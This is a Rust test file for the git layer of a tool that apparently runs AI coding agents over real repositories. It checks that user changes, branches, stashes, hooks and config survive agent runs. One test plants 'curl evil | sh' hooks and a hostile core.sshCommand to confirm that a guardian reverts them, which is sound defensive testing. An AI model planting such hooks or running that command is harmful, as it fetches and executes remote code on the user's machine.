//! Git over real repositories: nothing is lost, nothing of one task lands in another.
#![cfg(unix)]
#![expect(clippy::unwrap_used, reason = "a test may fail here")]

mod support;

use std::ffi::OsString;
use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::PathBuf;

use support::{Repository, committed, discover, git_in};
use wiggum_workspace::git::{Change, CommitOutcome, Git, GitError, Guardian, Head, PutBack, Source, Target};
use wiggum_workspace::process::{self, CommandLine, Launch};

const STRANGE: [&str; 8] = [
    "-dash",
    "with space",
    "new\nline",
    "ünïcode",
    "*star?",
    ":(colon)",
    "deep/er/file",
    "back\\slash\"quote",
];

#[test]
fn a_work_tree_is_found_from_anywhere_inside() {
    let repository = Repository::new();
    repository.write("sub/dir/x", "");
    let from_below = discover(&repository.root.join("sub/dir")).unwrap();
    assert_eq!(from_below.root(), repository.root);
    assert!(discover(&repository.root.join(".git")).is_none(), "inside .git is no work tree");

    let outside = tempfile::tempdir().unwrap();
    assert!(discover(outside.path()).is_none());
    git_in(outside.path(), &["init", "-q", "--bare", "."]);
    assert!(discover(outside.path()).is_none(), "bare");
}

#[test]
fn head_is_read_in_every_form() {
    let repository = Repository::empty();
    let branch = |name: &str, commit: Option<&str>| Head {
        branch: Some(name.to_owned()),
        commit: commit.map(str::to_owned),
    };
    assert_eq!(repository.head(), branch("main", None));
    repository.write("a", "");
    let first = repository.commit_all("first");
    assert_eq!(repository.head(), branch("main", Some(&first)));
    assert_eq!(repository.run(&["rev-parse", "HEAD"]).trim(), first);
    repository.run(&["pack-refs", "--all"]);
    assert_eq!(repository.head(), branch("main", Some(&first)));
    repository.run(&["checkout", "-q", "-b", "feature/deep"]);
    assert_eq!(repository.head(), branch("feature/deep", Some(&first)));
    repository.run(&["checkout", "-q", "--detach"]);
    assert_eq!(repository.head(), Head { branch: None, commit: Some(first.clone()) });
    repository.run(&["checkout", "-q", "--orphan", "feature"]);
    repository.run(&["symbolic-ref", "refs/heads/alias", "refs/heads/main"]);
    repository.run(&["symbolic-ref", "HEAD", "refs/heads/alias"]);
    assert_eq!(repository.head().commit, Some(first));
}

#[test]
fn other_formats_are_left_to_git() {
    for format in ["--ref-format=reftable", "--object-format=sha256"] {
        let repository = Repository::with(&["init", "-q", "-b", "main", format]);
        assert_eq!(repository.head(), Head { branch: Some("main".to_owned()), commit: None }, "{format}");
        repository.write("a", "");
        let commit = repository.commit_all("first");
        assert_eq!(repository.head().commit, Some(commit.clone()), "{format}");
        repository.write("b", "");
        repository.git.reset_hard(Some(&commit), &[]).unwrap();
        assert!(!repository.exists("b"), "{format}");
    }
}

#[test]
fn status_knows_every_change() {
    let repository = Repository::new();
    for name in ["changed", "gone", "type"] {
        repository.write(name, "old\n");
    }
    repository.write("mode", "x");
    let first = repository.commit_all("more");
    repository.write("changed", "new\n");
    fs::remove_file(repository.root.join("gone")).unwrap();
    fs::remove_file(repository.root.join("type")).unwrap();
    symlink("changed", repository.root.join("type")).unwrap();
    fs::set_permissions(repository.root.join("mode"), fs::Permissions::from_mode(0o755)).unwrap();
    for name in STRANGE {
        repository.write(name, "strange\n");
    }
    let status = repository.git.status().unwrap();
    let mut untracked: Vec<&str> = status.untracked.iter().map(String::as_str).collect();
    let mut strange = STRANGE.to_vec();
    untracked.sort_unstable();
    strange.sort_unstable();
    assert_eq!(untracked, strange);
    assert!(status.staged.is_empty());
    assert_eq!(status.unstaged.len(), 4);

    repository.git.stage_all(&[]).unwrap();
    let status = repository.git.status().unwrap();
    assert!(status.unstaged.is_empty() && status.untracked.is_empty());
    let find = |path: &str| status.staged.iter().find(|entry| entry.path == path).unwrap();
    let changes =
        ["changed", "gone", "type", "mode", "new\nline"].map(|path| (find(path).change, find(path).mode));
    let expected = [
        (Change::Modified, 0o100_644),
        (Change::Deleted, 0o100_644),
        (Change::TypeChanged, 0o120_000),
        (Change::Modified, 0o100_755),
        (Change::Added, 0o100_644),
    ];
    assert_eq!(changes, expected);
    assert!(find("changed").blob_before != find("changed").blob_after);
    assert_eq!((find("gone").blob_after.as_ref(), find("new\nline").blob_before.as_ref()), (None, None));

    let second = repository.commit_all("strange");
    assert!(repository.git.status().unwrap().is_clean());
    for name in STRANGE {
        assert!(repository.git.is_tracked(name).unwrap(), "{name}");
        let shown = repository.git.show_file(Source::Commit(&second), name).unwrap();
        assert_eq!(shown.as_deref(), Some(b"strange\n".as_slice()), "{name}");
        assert_eq!(repository.git.show_file(Source::Commit(&first), name).unwrap(), None, "{name}");
    }
}

#[test]
fn staging_leaves_out_what_is_excluded_and_ignored() {
    for excluded in STRANGE {
        let repository = Repository::new();
        repository.write(excluded, "mine");
        repository.write("new.txt", "new");
        repository.write(".git/info/exclude", "*\n!new.txt\n");
        repository.git.stage_all(&[excluded]).unwrap();
        assert_eq!(repository.short_status(), "A  new.txt\n", "{excluded}");
    }
}

#[test]
fn staging_leaves_out_what_is_excluded() {
    for excluded in STRANGE {
        let repository = Repository::new();
        repository.write(excluded, "mine");
        // Would match `*star?` if that were taken for a pattern.
        repository.write("a star!", "theirs");
        repository.git.stage_all(&[excluded]).unwrap();
        let status = repository.git.status().unwrap();
        assert_eq!(status.untracked, [excluded]);
        assert_eq!(status.staged.len(), 1);
    }
}

#[test]
fn an_empty_repository_and_an_empty_commit_are_fine() {
    let repository = Repository::empty();
    repository.git.stage_all(&[]).unwrap();
    let first = committed(repository.git.commit("nothing yet", &[]).unwrap());
    let second = committed(repository.git.commit("still nothing", &[]).unwrap());
    assert_ne!(first, second);
    assert_eq!(repository.git.log_oneline(5).unwrap().len(), 2);
    assert_eq!(
        repository.run(&["log", "-1", "--format=%an <%ae> %cn"]).trim(),
        "Wiggum <wiggum@localhost> Wiggum"
    );
}

#[test]
fn a_configured_name_is_used() {
    let repository = Repository::empty();
    repository.run(&["config", "user.name", "Ralph"]);
    committed(repository.git.commit("x", &[]).unwrap());
    assert_eq!(repository.run(&["log", "-1", "--format=%an <%ae>"]).trim(), "Ralph <wiggum@localhost>");
}

#[test]
fn a_commit_takes_the_index_and_what_is_included() {
    let repository = Repository::new();
    repository.write("PRD.json", "{}");
    repository.commit_all("backlog");
    repository.write("work", "done");
    repository.git.stage_all(&["PRD.json"]).unwrap();
    repository.write("PRD.json", "{\"passes\":true}");
    repository.write("leftover", "of a check");
    let commit = committed(repository.git.commit("task\n\n# not a comment\n", &["PRD.json"]).unwrap());
    assert_eq!(repository.run(&["show", "--name-only", "--format=", &commit]), "PRD.json\nwork\n");
    assert_eq!(repository.run(&["log", "-1", "--format=%B"]).trim(), "task\n\n# not a comment");
    assert_eq!(repository.short_status(), "?? leftover\n");
}

#[test]
fn what_was_staged_is_what_is_committed() {
    let repository = Repository::new();
    let saved = repository.root.join(".git/saved-index");
    for round in ["first", "second"] {
        repository.write("work", round);
        repository.git.stage_all(&[]).unwrap();
        let tree = repository.git.index_tree().unwrap();
        repository.git.save_index(&saved).unwrap();
        // Also without a change in between.
        repository.git.put_back_index(&saved).unwrap();
        repository.write("work", "changed by a check");
        repository.run(&["add", "-A"]);
        repository.git.put_back_index(&saved).unwrap();
        assert!(!repository.root.join(".git/index.lock").exists());
        let commit = committed(repository.git.commit(round, &[]).unwrap());
        assert_eq!(repository.git.tree_of(&commit).unwrap(), tree);
        assert_eq!(repository.short_status(), " M work\n");
    }
    fs::write(repository.root.join(".git/index.lock"), "").unwrap();
    assert!(matches!(repository.git.put_back_index(&saved), Err(GitError::Locked { .. })));
    assert!(repository.root.join(".git/index.lock").exists(), "somebody else's lock stays");
}

#[test]
fn a_refusing_hook_is_not_a_commit() {
    for name in ["pre-commit", "commit-msg", "prepare-commit-msg"] {
        let repository = Repository::new();
        assert!(!repository.git.hooks_present().unwrap());
        let before = repository.head();
        repository.hook(name, "echo 'this is not tidy'; exit 3");
        assert!(repository.git.hooks_present().unwrap());
        repository.write("b", "");
        repository.git.stage_all(&[]).unwrap();
        match repository.git.commit("x", &[]).unwrap() {
            CommitOutcome::Refused(output) => assert!(output.contains("this is not tidy"), "{output}"),
            CommitOutcome::Committed(commit) => panic!("{name} was passed by: {commit}"),
        }
        assert_eq!(repository.head(), before);
    }
}

#[test]
fn hooks_run_for_commits_only() {
    let repository = Repository::new();
    for name in ["post-checkout", "reference-transaction", "post-index-change"] {
        repository.hook(name, "echo $0 >> \"$(git rev-parse --git-dir)/ran\"");
    }
    repository.write("b", "");
    let first = repository.tip();
    repository.git.stage_all(&[]).unwrap();
    let kept = repository.git.keep_work("refs/wiggum/t", "kept").unwrap();
    repository.git.reset_hard(Some(&first), &[]).unwrap();
    repository.git.restore_work(&kept, &[]).unwrap();
    assert!(!repository.exists(".git/ran"));
}

#[test]
fn a_commit_is_found_by_its_trailer() {
    let repository = Repository::empty();
    assert_eq!(repository.git.find_commit("Wiggum-Attempt", "a/1").unwrap(), None);
    let wanted = committed(repository.git.commit("x\n\nWiggum-Attempt: a/1\nWiggum-Loop: l\n", &[]).unwrap());
    committed(repository.git.commit("y\n\nWiggum-Attempt: a/11\n", &[]).unwrap());
    committed(repository.git.commit("Wiggum-Attempt: b/1 in the text\n\nbut no trailer", &[]).unwrap());
    assert_eq!(repository.git.find_commit("Wiggum-Attempt", "a/1").unwrap(), Some(wanted));
    assert_eq!(repository.git.find_commit("Wiggum-Attempt", "b/1").unwrap(), None);
}

/// Everything that can be in a work tree, kept under a ref, removed, and brought back.
#[test]
fn work_is_kept_and_comes_back_exactly() {
    let repository = Repository::new();
    repository.write(".gitignore", "*.log\n");
    repository.write("gone", "x");
    repository.write("was-file", "x");
    let base = repository.commit_all("base");
    repository.write(".wiggum/loops/1/status.json", "{}");
    repository.git.exclude_state_dir().unwrap();

    for name in STRANGE {
        repository.write(name, "strange\n");
    }
    repository.write("a.txt", "changed\n");
    repository.write("build.log", "ignored");
    repository.write("PROMPT.md", "prompt");
    fs::remove_file(repository.root.join("gone")).unwrap();
    fs::remove_file(repository.root.join("was-file")).unwrap();
    repository.write("was-file/now-directory", "x");
    repository.write("run.sh", "#!/bin/sh");
    fs::set_permissions(repository.root.join("run.sh"), fs::Permissions::from_mode(0o755)).unwrap();
    symlink("a.txt", repository.root.join("link")).unwrap();
    symlink("nowhere", repository.root.join("dangling")).unwrap();

    repository.git.stage_all(&["PROMPT.md"]).unwrap();
    let tree = repository.git.index_tree().unwrap();
    let before = repository.short_status();
    let kept = repository.git.keep_work("refs/wiggum/task", "work of a task").unwrap();
    assert_eq!(repository.short_status(), before, "keeping changes nothing");
    assert_eq!(repository.git.resolve("refs/wiggum/task").unwrap().as_deref(), Some(kept.as_str()));

    repository.git.reset_hard(Some(&base), &["PROMPT.md"]).unwrap();
    assert_eq!(repository.short_status(), "?? PROMPT.md\n");
    assert_eq!((repository.read("gone").as_str(), repository.read("was-file").as_str()), ("x", "x"));
    for kept in ["PROMPT.md", "build.log", ".wiggum/loops/1/status.json"] {
        assert!(repository.exists(kept), "{kept}");
    }

    // Another task's leftovers, in the way of files and directories.
    repository.write("link/in-the-way", "");
    repository.write("another", "");
    repository.git.restore_work(&kept, &["PROMPT.md"]).unwrap();
    assert_eq!(repository.short_status(), before);
    assert_eq!(repository.tip(), base);
    repository.git.stage_all(&["PROMPT.md"]).unwrap();
    assert_eq!(repository.git.index_tree().unwrap(), tree);
    repository.git.delete_reference("refs/wiggum/task").unwrap();
    assert_eq!(repository.git.resolve("refs/wiggum/task").unwrap(), None);
}

#[test]
fn a_tracked_file_that_is_kept_keeps_its_content() {
    let repository = Repository::new();
    repository.write("tracked *?[x].json", "old");
    let base = repository.commit_all("base");
    for (path, content) in [("tracked *?[x].json", "edited"), ("untracked [y]!.toml", "mine"), ("junk", "")] {
        repository.write(path, content);
    }
    repository.git.reset_hard(Some(&base), &["tracked *?[x].json", "untracked [y]!.toml"]).unwrap();
    assert_eq!(repository.read("tracked *?[x].json"), "edited");
    assert_eq!(repository.read("untracked [y]!.toml"), "mine");
    assert!(!repository.exists("junk"));
}

#[test]
fn a_link_out_of_the_repository_is_not_followed_by_a_reset() {
    let repository = Repository::new();
    repository.write("src/lib.rs", "old");
    let base = repository.commit_all("base");
    let outside = tempfile::tempdir().unwrap();
    fs::write(outside.path().join("lib.rs"), "precious").unwrap();
    fs::remove_dir_all(repository.root.join("src")).unwrap();
    symlink(outside.path(), repository.root.join("src")).unwrap();
    repository.git.reset_hard(Some(&base), &[]).unwrap();
    assert_eq!(repository.read("src/lib.rs"), "old");
    assert_eq!(fs::read_to_string(outside.path().join("lib.rs")).unwrap(), "precious");
}

#[test]
fn a_branch_without_commits_can_be_reset() {
    let repository = Repository::empty();
    repository.write("a", "");
    repository.git.stage_all(&[]).unwrap();
    let kept = repository.git.keep_work("refs/wiggum/t", "kept").unwrap();
    repository.git.reset_hard(None, &[]).unwrap();
    assert!(!repository.exists("a"));
    repository.git.restore_work(&kept, &[]).unwrap();
    assert_eq!(repository.short_status(), "A  a\n");
    repository.commit_all("by the agent");
    let squashed = repository.git.squash_onto(None, Some("main")).unwrap();
    assert_eq!(squashed.commits.len(), 1);
    assert_eq!(repository.head(), Head { branch: Some("main".to_owned()), commit: None });
    assert_eq!(repository.short_status(), "A  a\n");
}

/// Name, what the agent does, how many commits and which switch are reported.
type Case = (&'static str, &'static [&'static [&'static str]], usize, Option<Option<&'static str>>);

#[test]
fn what_an_agent_did_to_head_is_undone_and_its_files_stay() {
    let repository = Repository::new();
    let base = repository.tip();
    let nothing = repository.git.squash_onto(Some(&base), Some("main")).unwrap();
    assert_eq!(nothing, wiggum_workspace::git::Squashed::default());

    let cases: [Case; 5] = [
        ("commits", &[&["commit", "-qam", "1"], &["commit", "-q", "--allow-empty", "-m", "2"]], 2, None),
        ("branch", &[&["checkout", "-q", "-b", "mine"]], 0, Some(Some("mine"))),
        (
            "commit on a branch",
            &[&["checkout", "-q", "-b", "mine2"], &["commit", "-qam", "1"]],
            1,
            Some(Some("mine2")),
        ),
        ("detached", &[&["checkout", "-q", "--detach"], &["commit", "-qam", "1"]], 1, Some(None)),
        (
            "branch deleted",
            &[&["checkout", "-q", "-b", "mine3"], &["branch", "-q", "-D", "main"]],
            0,
            Some(Some("mine3")),
        ),
    ];
    for (name, commands, commits, switched) in cases {
        repository.write("a.txt", name);
        for command in commands {
            repository.run(command);
        }
        let squashed = repository.git.squash_onto(Some(&base), Some("main")).unwrap();
        assert_eq!(squashed.commits.len(), commits, "{name}");
        let switched = switched.map(|branch| branch.map(str::to_owned));
        assert_eq!(squashed.switched_from, switched, "{name}");
        assert_eq!(repository.head(), Head { branch: Some("main".to_owned()), commit: Some(base.clone()) });
        assert_eq!(repository.read("a.txt"), name);
        assert_eq!(repository.git.status().unwrap().paths(), ["a.txt"], "{name}");
    }

    repository.run(&["checkout", "-q", "-f", "--detach"]);
    repository.run(&["commit", "-q", "--allow-empty", "-m", "on nothing"]);
    let squashed = repository.git.squash_onto(Some(&base), None).unwrap();
    assert_eq!((squashed.commits.len(), squashed.switched_from), (1, None));
    assert_eq!(repository.head(), Head { branch: None, commit: Some(base) });
}

#[test]
fn a_merge_left_half_done_is_given_up() {
    let repository = Repository::new();
    let base = repository.tip();
    repository.run(&["checkout", "-q", "-b", "other"]);
    repository.write("a.txt", "theirs\n");
    repository.commit_all("theirs");
    repository.run(&["checkout", "-q", "main"]);
    repository.write("a.txt", "ours\n");
    let ours = repository.commit_all("ours");
    let merge = CommandLine::new("git", ["merge", "-q", "other"]);
    process::run(Launch::new(merge, &repository.root)).unwrap();
    assert_eq!(repository.git.status().unwrap().unstaged[0].change, Change::Unmerged);
    assert_eq!(repository.git.unfinished_operation(), Some("merge"));
    let squashed = repository.git.squash_onto(Some(&ours), Some("main")).unwrap();
    assert_eq!(squashed.unfinished, Some("merge"));
    assert!(repository.read("a.txt").contains("<<<<<<<"));
    let commit = repository.commit_all("resolved by hand");
    assert_eq!(repository.run(&["log", "-1", "--format=%P", &commit]).trim(), ours);
    repository.git.reset_hard(Some(&base), &[]).unwrap();
    assert!(repository.git.status().unwrap().is_clean());
}

#[test]
fn the_users_changes_are_set_aside_and_come_back_with_their_index() {
    let repository = Repository::new();
    repository.write("b.txt", "b\n");
    repository.commit_all("b");
    repository.write("a.txt", "one\ntwo\nthree\nstaged\n");
    repository.write("new", "staged\n");
    repository.run(&["add", "a.txt", "new"]);
    repository.write("a.txt", "one\ntwo\nthree\nstaged\nunstaged\n");
    fs::remove_file(repository.root.join("b.txt")).unwrap();
    for name in STRANGE {
        repository.write(name, "mine\n");
    }
    repository.write("PRD.json", "backlog");
    let before = repository.short_status();
    repository.run(&["stash", "list"]);

    let keep = ["PRD.json"];
    let first = repository.git.keep_changes("refs/wiggum/first", &keep).unwrap().unwrap();
    assert_eq!(repository.short_status(), before, "keeping alone changes nothing");
    let commit = repository.set_aside("refs/wiggum/user", &keep).unwrap().unwrap();
    assert!(repository.git.same_changes(&first, &commit).unwrap());
    assert_eq!(repository.short_status(), "?? PRD.json\n");
    assert_eq!(repository.read("b.txt"), "b\n");

    // A task is completed meanwhile.
    repository.write("task", "done");
    repository.git.stage_all(&keep).unwrap();
    committed(repository.git.commit("task", &[]).unwrap());

    assert_eq!(repository.git.put_back(&commit, &keep).unwrap(), PutBack::Clean);
    assert_eq!(repository.short_status(), before);
    assert_eq!(repository.read("a.txt"), "one\ntwo\nthree\nstaged\nunstaged\n");
    let staged = repository.git.show_file(Source::Index, "a.txt").unwrap().unwrap();
    assert_eq!(staged, b"one\ntwo\nthree\nstaged\n");
    assert_eq!(repository.run(&["stash", "list"]), "", "the user's stash is not ours");
    let again = repository.git.put_back(&commit, &keep);
    assert!(matches!(again, Err(GitError::NotClean { .. })), "{again:?}");
}

#[test]
fn a_clean_tree_has_nothing_to_set_aside() {
    let repository = Repository::new();
    repository.write("PRD.json", "");
    assert_eq!(repository.set_aside("refs/wiggum/user", &["PRD.json"]).unwrap(), None);
    assert_eq!(repository.git.resolve("refs/wiggum/user").unwrap(), None);
}

#[test]
fn changes_that_no_longer_fit_are_not_lost() {
    for (path, mine, theirs) in [("a.txt", "mine\n", "theirs\n"), ("untracked", "mine", "theirs")] {
        let repository = Repository::new();
        repository.write(path, mine);
        repository.write("also mine", "x");
        let commit = repository.set_aside("refs/wiggum/user", &[]).unwrap().unwrap();
        repository.write("also mine", "y");
        let other = repository.set_aside("refs/wiggum/other", &[]).unwrap().unwrap();
        assert!(!repository.git.same_changes(&commit, &other).unwrap());
        repository.write(path, theirs);
        repository.commit_all("task");
        assert!(matches!(repository.git.put_back(&commit, &[]).unwrap(), PutBack::Conflict(_)));
        assert!(repository.git.status().unwrap().is_clean(), "{}", repository.short_status());
        assert_eq!(repository.read(path), theirs);
        assert_eq!(repository.git.resolve("refs/wiggum/user").unwrap(), Some(commit));
    }
}

#[test]
fn changes_before_the_first_commit_come_back_too() {
    for commits_meanwhile in [false, true] {
        let repository = Repository::empty();
        repository.write("staged", "x");
        repository.run(&["add", "staged"]);
        repository.write("untracked", "y");
        let before = repository.short_status();
        let commit = repository.set_aside("refs/wiggum/user", &[]).unwrap().unwrap();
        assert_eq!(repository.short_status(), "");
        if commits_meanwhile {
            repository.write("task", "");
            repository.commit_all("task");
        }
        assert_eq!(repository.git.put_back(&commit, &[]).unwrap(), PutBack::Clean);
        assert_eq!(repository.short_status(), before);
        assert_eq!((repository.read("staged"), repository.read("untracked")), ("x".into(), "y".into()));
    }
}

#[test]
fn a_repository_inside_is_refused_rather_than_lost() {
    let repository = Repository::new();
    repository.write("inner/file", "precious");
    git_in(&repository.root.join("inner"), &["init", "-q"]);
    let refused = repository.set_aside("refs/wiggum/user", &[]);
    assert!(matches!(&refused, Err(GitError::NestedRepository { path }) if path == "inner/"), "{refused:?}");
    assert_eq!(repository.read("inner/file"), "precious");
}

#[test]
fn submodules_take_part() {
    let library = Repository::new();
    let repository = Repository::new();
    let url = library.root.to_str().unwrap();
    repository.run(&["-c", "protocol.file.allow=always", "submodule", "--quiet", "add", url, "lib"]);
    let base = repository.commit_all("add a submodule");
    repository.write("lib/a.txt", "changed inside");
    let status = repository.git.status().unwrap();
    assert_eq!(status.uncommitted_inside, ["lib"]);
    // Nothing of that can be staged or put back here.
    assert!(status.is_clean(), "{status:?}");
    let inner = discover(&repository.root.join("lib")).unwrap();
    assert_eq!(inner.root(), repository.root.join("lib"));
    inner.stage_all(&[]).unwrap();
    let moved = committed(inner.commit("inside", &[]).unwrap());
    repository.git.stage_all(&[]).unwrap();
    assert_eq!(repository.git.status().unwrap().staged[0].blob_after, Some(moved));
    let tip = repository.commit_all("move the submodule");
    assert_ne!(tip, base);
    // Another commit inside is a change; going back to a commit takes the submodule along, and nothing
    // that is not committed inside is lost.
    repository.write("lib/new.txt", "not committed");
    repository.git.reset_hard(Some(&base), &[]).unwrap();
    let status = repository.git.status().unwrap();
    assert!(status.is_clean(), "{status:?}");
    assert_eq!(status.uncommitted_inside, ["lib"]);
    assert_eq!(repository.read("lib/new.txt"), "not committed");
    repository.git.reset_hard(Some(&tip), &[]).unwrap();
    assert_eq!(repository.read("lib/a.txt"), "changed inside");
}

#[test]
fn a_linked_work_tree_has_its_own_head_and_index() {
    let repository = Repository::new();
    repository.run(&["worktree", "add", "-q", "-b", "side", "../side"]);
    let side = repository.root.parent().unwrap().join("side");
    let git = discover(&side).unwrap();
    assert_eq!(git.head().unwrap().branch.as_deref(), Some("side"));
    assert_eq!(git.common_dir().canonicalize().unwrap(), repository.root.join(".git"));
    let same = Git::new(&side, None);
    assert_eq!((same.git_dir(), same.head().unwrap()), (git.git_dir(), git.head().unwrap()));
    fs::write(side.join("b"), "").unwrap();
    git.stage_all(&[]).unwrap();
    let saved = side.join("../saved");
    git.save_index(&saved).unwrap();
    git.put_back_index(&saved).unwrap();
    let commit = committed(git.commit("on the side", &[]).unwrap());
    assert_eq!(git.head().unwrap().commit, Some(commit.clone()));
    assert_ne!(repository.tip(), commit);
    git.exclude_state_dir().unwrap();
    assert!(git.ignored(".wiggum/store").unwrap());
}

#[test]
fn differences_are_shown() {
    let repository = Repository::new();
    let first = repository.tip();
    repository.write("a.txt", "one\n2\nthree\n");
    repository.write("-b", "b\n");
    assert!(repository.git.diff(&first, Target::WorkTree, &[]).unwrap().contains("+2"));
    assert_eq!(repository.git.diff(&first, Target::Index, &[]).unwrap(), "");
    repository.git.stage_all(&[]).unwrap();
    let staged = repository.git.diff(&first, Target::Index, &["-b"]).unwrap();
    assert!(staged.contains("+b") && !staged.contains("+2"));
    let second = repository.commit_all("second");
    assert!(repository.git.diff(&first, Target::Commit(&second), &["a.txt"]).unwrap().contains("-two"));
}

#[test]
fn the_state_directory_is_excluded_once_and_only_if_needed() {
    let repository = Repository::new();
    repository.git.exclude_state_dir().unwrap();
    repository.git.exclude_state_dir().unwrap();
    let exclude = repository.read(".git/info/exclude");
    assert_eq!(exclude.matches("\n/.wiggum/*").count() + usize::from(exclude.starts_with("/.wiggum/*")), 1);
    for ours in ["store", "backlog.lock", "loops/1/status.json"] {
        repository.write(&format!(".wiggum/{ours}"), "");
    }
    assert!(repository.git.status().unwrap().is_clean());
    // What people commit there, git sees.
    repository.write(".wiggum/plans/a--b.json", "");
    assert_eq!(repository.git.status().unwrap().paths(), [".wiggum/plans/a--b.json"]);

    // What an older version wrote is replaced.
    repository.write(".git/info/exclude", "mine\n.wiggum/\n");
    repository.git.exclude_state_dir().unwrap();
    assert!(repository.read(".git/info/exclude").starts_with("mine\n/.wiggum/*\n"));

    let repository = Repository::new();
    repository.write(".gitignore", ".wiggum\n");
    let before = fs::read(repository.root.join(".git/info/exclude")).ok();
    repository.git.exclude_state_dir().unwrap();
    assert_eq!(fs::read(repository.root.join(".git/info/exclude")).ok(), before);
}

#[test]
fn locks_of_a_dead_git_are_cleared() {
    let repository = Repository::new();
    assert_eq!(repository.git.clear_dead_lock().unwrap(), Vec::<PathBuf>::new());
    let locks =
        ["index.lock", "HEAD.lock", "packed-refs.lock", "refs/heads/main.lock", "refs/wiggum/x/y.lock"];
    for lock in locks {
        repository.write(&format!(".git/{lock}"), "");
    }
    assert_eq!(repository.git.clear_dead_lock().unwrap().len(), locks.len());
    repository.write("b", "");
    repository.commit_all("works again");
}

#[cfg(target_os = "linux")]
#[test]
fn the_lock_of_a_living_git_stays() {
    use std::sync::mpsc;
    use wiggum_workspace::process::{Ended, Grace, Sink, Stop, Stream, launch};
    struct Talk(mpsc::Sender<()>);
    impl Sink for Talk {
        fn output(&mut self, _: Stream, _: &[u8]) {
            self.0.send(()).unwrap();
        }
        fn ended(&mut self, _: Ended) {
            self.0.send(()).unwrap();
        }
    }
    let repository = Repository::new();
    repository.hook("pre-commit", "echo waiting; exec sleep 100");
    let (sender, receiver) = mpsc::channel();
    let commit = CommandLine::new("git", ["commit", "-aqm", "slow", "--allow-empty"]);
    let mut commit = Launch::new(commit, &repository.root);
    commit.env = ["GIT_AUTHOR_NAME", "GIT_AUTHOR_EMAIL", "GIT_COMMITTER_NAME", "GIT_COMMITTER_EMAIL"]
        .map(|name| (name.into(), "x".into()))
        .to_vec();
    let running = launch(commit, Talk(sender)).unwrap();
    receiver.recv().unwrap();
    assert!(repository.exists(".git/index.lock"));
    assert_eq!(repository.git.clear_dead_lock().unwrap(), Vec::<PathBuf>::new());
    assert!(repository.exists(".git/index.lock"));
    running.stop(Stop::Asked, Grace::default());
    receiver.recv().unwrap();
    repository.git.clear_dead_lock().unwrap();
    assert!(!repository.exists(".git/index.lock"));
}

#[test]
fn planted_hooks_and_settings_are_put_back() {
    let repository = Repository::new();
    repository.hook("pre-commit", "exit 0");
    repository.hook("commit-msg", "exit 0");
    symlink("commit-msg", repository.root.join(".git/hooks/post-merge")).unwrap();
    let store = repository.root.join(".git/guard");
    let mut guardian = Guardian::take(&repository.git, &store).unwrap();
    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());
    let before = repository.read(".git/config");

    repository.hook("pre-commit", "curl evil | sh");
    repository.hook("post-commit", "curl evil | sh");
    fs::remove_file(repository.root.join(".git/hooks/commit-msg")).unwrap();
    fs::remove_file(repository.root.join(".git/hooks/post-merge")).unwrap();
    repository.run(&["config", "core.sshCommand", "evil"]);
    // By another engine, after a kill -9.
    let mut guardian = Guardian::open(&repository.git, &store).unwrap().unwrap();
    let changed = guardian.compare_and_put_back(&store).unwrap();
    let expected =
        ["config", "hooks/commit-msg", "hooks/post-commit", "hooks/post-merge", "hooks/pre-commit"];
    assert_eq!(changed, expected);
    assert_eq!(repository.read(".git/config"), before);
    assert_eq!(repository.read(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    assert!(!repository.exists(".git/hooks/post-commit"));
    assert!(repository.root.join(".git/hooks/post-merge").is_symlink());
    let mode = repository.root.join(".git/hooks/commit-msg").metadata().unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o755);
    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());

    // The whole directory replaced by a link to somewhere else.
    let outside = tempfile::tempdir().unwrap();
    fs::remove_dir_all(repository.root.join(".git/hooks")).unwrap();
    symlink(outside.path(), repository.root.join(".git/hooks")).unwrap();
    assert!(!guardian.compare_and_put_back(&store).unwrap().is_empty());
    assert_eq!(repository.read(".git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
    assert_eq!(fs::read_dir(outside.path()).unwrap().count(), 0);

    fs::write(store.join("git-guard"), "wiggum git guard 2\nhalf").unwrap();
    assert!(Guardian::open(&repository.git, &store).unwrap().is_none(), "half a snapshot is none");
}

#[test]
fn a_hooks_path_counts_as_hooks() {
    let repository = Repository::new();
    repository.run(&["config", "core.hooksPath", ".githooks"]);
    assert!(repository.git.hooks_present().unwrap());
}

#[test]
fn a_repository_of_somebody_else_is_named() {
    let repository = Repository::new();
    let env = vec![(OsString::from("GIT_TEST_ASSUME_DIFFERENT_OWNER"), OsString::from("1"))];
    let refused = Git::discover_with(&repository.root, env);
    let root = repository.root.to_str().unwrap();
    assert!(matches!(&refused, Err(GitError::NotOwned { path }) if path == root), "{refused:?}");
    assert!(Git::discover_with(&repository.root, Vec::new()).unwrap().is_some());
}

#[test]
fn branches_tags_and_stashes_are_as_before() {
    let repository = Repository::new();
    let store = repository.root.join(".git/guard");
    repository.run(&["branch", "other"]);
    repository.run(&["tag", "v1"]);
    for text in ["older", "newer"] {
        repository.write("a.txt", text);
        repository.run(&["stash", "push", "-m", text]);
    }
    let stashes = repository.run(&["stash", "list"]);
    let mut guardian = Guardian::take(&repository.git, &store).unwrap();

    repository.run(&["commit", "--allow-empty", "-q", "-m", "more"]);
    repository.run(&["branch", "-f", "other", "HEAD"]);
    repository.run(&["tag", "-d", "v1"]);
    repository.run(&["stash", "drop", "stash@{1}"]);
    repository.run(&["branch", "of-the-agent"]);
    repository.run(&["replace", "HEAD", "HEAD~1"]);
    let changed = guardian.compare_and_put_back(&store).unwrap();
    assert!(changed.iter().any(|name| name.starts_with("refs/replace/")), "{changed:?}");
    let others: Vec<&String> = changed.iter().filter(|name| !name.starts_with("refs/replace/")).collect();
    assert_eq!(others, ["refs/heads/other", "refs/stash", "refs/tags/v1"]);
    assert_eq!(repository.run(&["stash", "list"]), stashes);
    assert_eq!(
        repository.run(&["rev-parse", "other", "v1"]),
        repository.run(&["rev-parse", "HEAD~1", "HEAD~1"])
    );
    assert!(repository.run(&["replace", "-l"]).is_empty());
    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());

    // A branch that an agent made may be moved by the next one.
    let mut guardian = Guardian::take(&repository.git, &store).unwrap();
    repository.run(&["branch", "-f", "of-the-agent", "HEAD~1"]);
    assert_eq!(guardian.compare_and_put_back(&store).unwrap(), Vec::<String>::new());
    // A stash that came stays, and so does what was there.
    repository.write("a.txt", "newest");
